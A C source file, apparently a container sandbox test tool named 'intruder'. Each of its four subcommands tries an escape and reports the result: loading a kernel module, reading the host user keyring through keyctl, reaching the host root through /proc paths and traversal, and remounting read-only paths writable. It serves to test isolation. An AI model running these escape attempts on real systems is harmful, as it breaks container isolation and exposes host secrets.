// SPDX-License-Identifier: MIT
//
// intruder ATTACK [ARGUMENT...]: further attacks from inside a container, beside those of attacker.c. Each says in a line what
// came of it, and ends with 0 when it succeeded, 1 when it was refused, 2 when it could not be tried.

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { succeeded = 0, refused = 1, not_tried = 2 };
enum { session_keyring = -3, user_keyring = -4, key_link = 8, key_search = 10, key_read = 11 };

static int say(int result, const char* what)
{
    static const char* const words[] = {"succeeded", "refused", "not tried"};
    printf("%s: %s: %s\n", words[result], what, result == succeeded ? "done" : strerror(errno));
    fflush(stdout);
    return result;
}

/* module FILE: hand FILE to the kernel as a module. It has succeeded when the kernel has looked at it: the file is none. */
static int module(char** words)
{
    const int fd = open(words[0], O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return say(not_tried, words[0]);
    static char nothing[64];
    if (syscall(SYS_finit_module, fd, "", 0) == 0 || errno == ENOEXEC || errno == EINVAL)
        return say(succeeded, "finit_module");
    const int by_file = errno;
    if (syscall(SYS_init_module, nothing, sizeof nothing, "") == 0 || errno == ENOEXEC || errno == EINVAL)
        return say(succeeded, "init_module");
    return say(by_file == ENOSYS ? not_tried : refused, "a module");
}

/* keyring NAME: read the user's key NAME, which somebody with the same number has in the host's user keyring. */
static int keyring(char** words)
{
    char secret[64];
    (void)syscall(SYS_keyctl, key_link, user_keyring, session_keyring);
    for (int ring = session_keyring; ring >= user_keyring; --ring) {
        const long key = syscall(SYS_keyctl, key_search, ring, "user", words[0], 0);
        if (key >= 0 && syscall(SYS_keyctl, key_read, key, secret, sizeof secret) >= 0)
            return say(succeeded, words[0]);
    }
    return say(errno == ENOSYS ? not_tried : refused, "a key");
}

/* by-root MARKER: through the root or the directory of any process that can be seen. */
static int by_root(char** words)
{
    DIR* directory = opendir("/proc");
    if (directory == NULL)
        return say(not_tried, "/proc");
    int seen = 0;
    for (struct dirent* entry; (entry = readdir(directory)) != NULL;) {
        static const char* const ways[] = {"root", "cwd", "cwd/../../../../../../..", "task/../root",
                                           "fd/3/../../../.."};
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
            continue;
        ++seen;
        for (size_t way = 0; way < sizeof ways / sizeof *ways; ++way) {
            char path[512];
            snprintf(path, sizeof path, "/proc/%s/%s%s", entry->d_name, ways[way], words[0]);
            if (access(path, F_OK) == 0)
                return say(succeeded, path);
        }
    }
    closedir(directory);
    return say(seen > 0 ? refused : not_tried, "every process");
}

/* writable PATH: make a read-only path writable by a remount, of it, of a bind of it, and of what it is mounted from. */
static int writable(char** words)
{
    struct stat found;
    char file[512];
    snprintf(file, sizeof file, "%s", words[0]);
    if (stat(file, &found) != 0)
        return say(not_tried, file);
    (void)mount(NULL, file, NULL, MS_REMOUNT | MS_BIND, NULL);
    (void)mount(NULL, file, NULL, MS_REMOUNT, NULL);
    if (faccessat(AT_FDCWD, file, W_OK, AT_EACCESS) == 0)
        return say(succeeded, "a remount");
    int error = errno;
    (void)mkdir("/tmp/bound", 0700);
    if (mount(file, "/tmp/bound", NULL, MS_BIND | MS_REC, NULL) == 0) {
        (void)mount(NULL, "/tmp/bound", NULL, MS_REMOUNT | MS_BIND, NULL);
        if (faccessat(AT_FDCWD, "/tmp/bound", W_OK, AT_EACCESS) == 0)
            return say(succeeded, "a bind");
    }
    if (mount("proc", "/tmp/bound", "proc", 0, NULL) == 0)
        return say(succeeded, "another proc");
    errno = error;
    return say(refused, file);
}

static const struct {
    const char* name;
    int (*run)(char** words);
} attacks[] = {{"module", module}, {"keyring", keyring}, {"by-root", by_root}, {"writable", writable}};

int main(int count, char** words)
{
    for (size_t at = 0; count > 2 && at < sizeof attacks / sizeof *attacks; ++at)
        if (strcmp(words[1], attacks[at].name) == 0)
            return attacks[at].run(words + 2);
    fprintf(stderr, "usage: intruder ATTACK ARGUMENT\n");
    return not_tried;
}
